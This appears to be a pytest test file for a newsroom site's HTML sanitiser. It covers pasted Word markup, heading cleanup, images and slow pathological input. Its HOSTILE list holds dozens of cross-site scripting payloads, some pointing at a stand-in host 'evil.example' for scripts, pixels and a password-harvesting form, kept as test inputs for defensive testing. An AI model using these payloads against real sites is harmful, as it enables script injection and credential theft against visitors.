import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from almaty.contents import changed_fields, content_of
from almaty.desk_addresses import desk_url
from almaty.editing import current_content
from almaty.figures import with_pictures
from almaty.prose import TAGS, clean_prose
from newsroom.models import NewsItem
from tests.factories import (
    make_country,
    make_image,
    make_news_item,
    make_partner,
    make_project,
    make_sector,
    make_snapshot,
    picture_file,
)
from tests.forms import submit

# As Word for Windows puts it on the clipboard, in words of our own.
WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta charset=utf-8><title>Workshop</title>
<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri";} @page S {size:595.3pt;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head><body lang=EN-GB style='tab-interval:36.0pt'>
<!--StartFragment-->
<h1 style='mso-list:none'><a name="_Toc1"></a><span lang=EN-US>Teachers meet<o:p></o:p></span></h1>
<p class=MsoNormal style='margin-bottom:8.0pt'><b style='mso-bidi-font-weight:normal'><span
lang=EN-US style='font-size:12.0pt'>Ninety teachers</span></b><span style='mso-spacerun:yes'>&nbsp;
</span>met in <i>Shymkent</i>, see <a href="https://example.org/a?b=1&amp;c=2" target="_blank"
style='color:blue'>the programme</a>.<o:p>&nbsp;</o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if
!supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>
first point<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>·<span>&nbsp;&nbsp;&nbsp; </span></span><![endif]>second point</p>
<h4>What next</h4>
<p class=MsoNormal><img width=20 height=20 src="file:///C:/Users/me/clip_image001.png" alt="A chart"
v:shapes="x">Text beside a chart.</p>
<!--EndFragment--></body></html>"""

WORD_KEPT = (
    "<h2>Teachers meet</h2>"
    "<p><strong>Ninety teachers</strong> met in <em>Shymkent</em>, see "
    '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener">the programme</a>.</p>'
    "<ul><li><p>first point</p></li><li><p>second point</p></li></ul>"
    "<h3>What next</h3>"
    "<p>Text beside a chart.</p>"
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/x.png onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/media/../admin/logout/">',
    '<img src="/media/images/aa/../../x.jpg">',
    '<img srcset="https://evil.example/a.png 1x" src="/media/images/aa/bb.jpg">',
    '<img alt="&quot;><script>alert(1)</script>" src="/media/images/aa/bb.jpg">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi><style></math><img src onerror=alert(1)></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p id=content class=admin>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    "<a href='x' ping='https://evil.example'>x</a>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<xss-x onclick=alert(1)>x</xss-x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<b id='docs-internal-guid-1' onclick=alert(1)>x</b>",
    "<p>·<script>alert(1)</script></p><p>· <img src=x onerror=alert(1)></p>",
    "<figure><figcaption><script>alert(1)</script><img src=x onerror=alert(1)></figcaption>",
    "<table><td><img src=x onerror=alert(1)></td></table>",
    "<div><div title='<b>' onclick=alert(1)></b></div>",
    "<" * 2_000 + "img src=x onerror=alert(1)>",
    "<blockquote>" * 5_000 + "<script>alert(1)</script>",
]

ALLOWED = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "img": {"src", "alt"},
}


class Reader(HTMLParser):
    """What a cleaned text holds, read by another parser than the one that cleaned it."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_comment(self, text):
        raise AssertionError(text)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html):
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        assert attributes.keys() <= ALLOWED.get(tag, set())
        assert not attributes.get("src", "/media/").removeprefix("/media/").startswith((".", "/"))
        assert ".." not in attributes.get("src", "")
        scheme, colon, _rest = attributes.get("href", "").partition(":")
        assert not colon or scheme in {"http", "https", "mailto"}
        assert attributes.get("rel", "noopener") == "noopener"


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<p>before {} after</p>", "<ul><li>{}</li></ul>", "<h2>{}</h2>", "{0}{0}"]
)
def test_nothing_that_runs_is_kept(payload, around):
    kept = clean_prose(around.format(payload))
    assert_harmless(kept)
    assert clean_prose(kept) == kept


@given(st.text(alphabet="<>/=\"' abpx·&;#\n", max_size=300))
def test_any_text_is_harmless_and_cleaning_settles(html):
    kept = clean_prose(html)
    assert_harmless(kept)
    assert clean_prose(kept) == kept


def test_a_paste_from_word_comes_out_clean():
    assert clean_prose(WORD) == WORD_KEPT


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("", ""),
        (None, ""),
        ("Only words", "<p>Only words</p>"),
        ("<p></p>", ""),
        ("<p>&nbsp;</p><p><br></p><h2> </h2>", ""),
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        ("<h1>A</h1><h4>B</h4><h6>C</h6>", "<h2>A</h2><h3>B</h3><h3>C</h3>"),
        ("<div>one</div><div>two</div>", "<p>one</p><p>two</p>"),
        ("<div><p>one</p></div>", "<p>one</p>"),
        ("<p>90&nbsp;%</p>", "<p>90&nbsp;%</p>"),
        ("<p>much &nbsp;&nbsp; space&nbsp;</p>", "<p>much space</p>"),
        ("<table><tr><td>Year</td><td><b>2024</b></td></tr></table>", None),
        ("<p>1.&nbsp;&nbsp; one</p><p>2.&nbsp;&nbsp; two</p>", None),
        ("<p>1. A sentence may begin so.</p>", "<p>1. A sentence may begin so.</p>"),
        (
            '<b style="font-weight:normal" id="docs-internal-guid-7f"><p>plain</p></b>',
            "<p>plain</p>",
        ),
        ('<a href="/snapshots/">here</a>', '<p><a href="/snapshots/" rel="noopener">here</a></p>'),
        ("<p>1\u202f000 teachers</p>", "<p>1\u202f000 teachers</p>"),
        ("<p>Қазақстан және Өзбекстан</p>", "<p>Қазақстан және Өзбекстан</p>"),
        ("<p>nul\0 and half\ud800 a pair</p>", "<p>nul and half a pair</p>"),
        ("<blockquote><p>“Words.”</p></blockquote>", "<blockquote><p>“Words.”</p></blockquote>"),
        ("<p>a < b & c</p>", "<p>a &lt; b &amp; c</p>"),
    ],
)
def test_it_tidies(pasted, kept):
    expected = {
        "<table><tr><td>Year</td><td><b>2024</b></td></tr></table>": (
            "<p>Year</p><p><strong>2024</strong></p>"
        ),
        "<p>1.&nbsp;&nbsp; one</p><p>2.&nbsp;&nbsp; two</p>": (
            "<ol><li><p>one</p></li><li><p>two</p></li></ol>"
        ),
    }.get(pasted, kept)
    assert clean_prose(pasted) == expected
    assert clean_prose(expected) == expected


@pytest.mark.parametrize(
    "source",
    ["https://example.org/a.png", "data:image/png;base64,iVBORw0KGgo=", "file:///c/a.png", "a.png"],
)
def test_a_picture_from_elsewhere_goes_and_its_words_stay(source):
    html = f'<figure><img src="{source}" alt="A"><figcaption>The <b>lake</b></figcaption></figure>'
    assert clean_prose(html) == "<p>The <strong>lake</strong></p>"


@pytest.mark.parametrize(
    "html",
    [
        "<blockquote>" * 50_000,
        "<x>" * 50_000,
        "<a" * 200_000,
        "<p>" + " " * 400_000 + "x</p>",
        "<p>·" * 50_000,
        "&nbsp; " * 100_000,
        "<b id='" * 50_000,
        "<li>" * 30_000 + "x",
    ],
    ids=lambda html: html[:14],
)
def test_it_takes_no_longer_for_hostile_text(html):
    started = time.process_time()
    clean_prose(html)
    assert time.process_time() - started < 3


def test_a_figure_shows_the_library_s_picture_in_its_widths(db):
    image = make_image(file=picture_file(size=(700, 350)), alt="A lake")
    html = f'<figure><img src="{image.file.w320_webp}"><figcaption>Now</figcaption></figure>'
    kept = with_pictures(clean_prose(html))
    assert f'src="{image.file.w960_webp}"' in kept
    assert f"{image.file.w640_webp} 640w, {image.file.w960_webp} 700w" in kept
    assert 'width="700" height="350" alt="A lake" loading="lazy"' in kept
    assert with_pictures(clean_prose(kept)) == kept


def test_a_figure_keeps_the_words_its_editor_gave_it(db):
    image = make_image(alt="A lake")
    kept = with_pictures(
        clean_prose(f'<img src="{image.file.url}" alt="Lake &lt;Issyk&gt; &quot;">')
    )
    assert 'alt="Lake &lt;Issyk&gt; &quot;"' in kept


def test_a_picture_without_a_row_goes(db):
    assert (
        with_pictures(f'<p>x<img src="/media/images/aa/{"a" * 32}.jpg" alt=""></p>') == "<p>x</p>"
    )


def test_a_row_is_cleaned_whoever_saves_it(db):
    item = make_news_item(body="<h1>A</h1><script>alert(1)</script>", body_ru="<p onclick=x>б</p>")
    item.refresh_from_db()
    assert item.body == "<h2>A</h2>"
    assert item.body_ru == "<p>б</p>"


@pytest.mark.parametrize("desk", ["/ru", "/kk"])
def test_a_save_at_a_desk_in_another_language_translates_nothing(admin_client, desk):
    """What stands in for a missing translation is shown, and not kept as one."""
    pages = [
        make_news_item(body="<p>Words.</p>"),
        make_project(body="<p>Words.</p>"),
        make_partner(description="<p>Words.</p>"),
        make_sector(body="<p>Words.</p>"),
        make_country(introduction="<p>Words.</p>"),
        make_snapshot(introduction="<p>Words.</p>"),
    ]
    addresses = [desk + desk_url("change", page, page.pk) for page in pages]
    for page, address in zip(pages, addresses, strict=True):
        before = content_of(page)
        answer = submit(admin_client, address)
        assert answer.status_code == 302
        page.refresh_from_db()
        assert changed_fields(before, current_content(page)) == []
        assert page.version == 0


def test_a_long_page_is_kept_whole(db):
    item = make_news_item(body="<p>" + "word " * 100_000 + "end</p>")
    assert NewsItem.objects.get(pk=item.pk).body.endswith("word end</p>")
